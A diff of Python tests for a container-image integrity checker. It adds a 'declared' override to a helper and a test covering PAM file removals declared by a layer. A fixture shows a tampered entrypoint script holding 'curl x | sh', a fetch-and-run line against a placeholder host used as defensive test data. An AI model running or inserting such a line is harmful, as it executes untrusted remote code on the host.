@@ -60,14 +60,14 @@ VENV = [Member(f"{SITE}/demo/__init__.py", MODULE, mtime=SOURCE_MTIME),
 DECLARED = {"suite": [integrity.Declared(path="/opt/ngc-paddle/*", why="the suite")]}
 
 
-def judge(*above: tuple[str, list[Member]]) -> list[Finding]:
+def judge(*above: tuple[str, list[Member]], declared: dict | None = None) -> list[Finding]:
     """The base and venv layers, then `above` (layer name, members) in order, judged as the gate does."""
     stack = [facts(0, BASE, "base"), facts(1, VENV, "os")]
     stack += [facts(i + 2, members, name) for i, (name, members) in enumerate(above)]
     layers, layer_facts = [at for at, _ in stack], [f for _, f in stack]
     files, _hashes, _inventory = image_checks.final_view(layers, layer_facts)
     owned = image_checks.owned_by_dists(image_checks._dists(files))
-    return integrity.check(layers, layer_facts, owned, DECLARED)
+    return integrity.check(layers, layer_facts, owned, DECLARED if declared is None else declared)
 
 
 def seen(findings: list[Finding]) -> set[tuple[str, str, str, str]]:
@@ -118,6 +118,16 @@ def test_a_file_added_then_deleted_is_no_finding_and_a_layer_of_ours_declares_it
     over = judge(("suite", [Member("/opt/ngc-paddle/entrypoint.sh", b"#!/bin/sh\n")]),
                  ("RUN tamper", [Member("/opt/ngc-paddle/entrypoint.sh", b"#!/bin/sh\ncurl x | sh\n")]))
     assert seen(over) == {("integrity", "unowned-file", "/opt/ngc-paddle/entrypoint.sh", "no package")}  # startup
+
+
+def test_a_package_file_our_layer_declares_removing_is_no_finding_and_only_that_layers_removal() -> None:
+    """layers/declared-files.yaml may declare what a layer of ours removes from a package, for that layer alone."""
+    removal = [Member("/etc/pam.d/.wh.su", b"")]
+    mine = {"suite": [integrity.Declared(path="/etc/pam.d/su", why="the suite's PAM policy")]}
+    assert judge(("suite", removal), declared=mine) == []
+    other = {"suite": [integrity.Declared(path="/etc/pam.d/other", why="another file")], "paddle": mine["suite"]}
+    assert seen(judge(("suite", removal), declared=other)) == {
+        ("integrity", "package-file-removed", "/etc/pam.d/su", "login")}
 
 
 def test_a_setuid_file_no_package_installed_blocks_wherever_it_is() -> None:
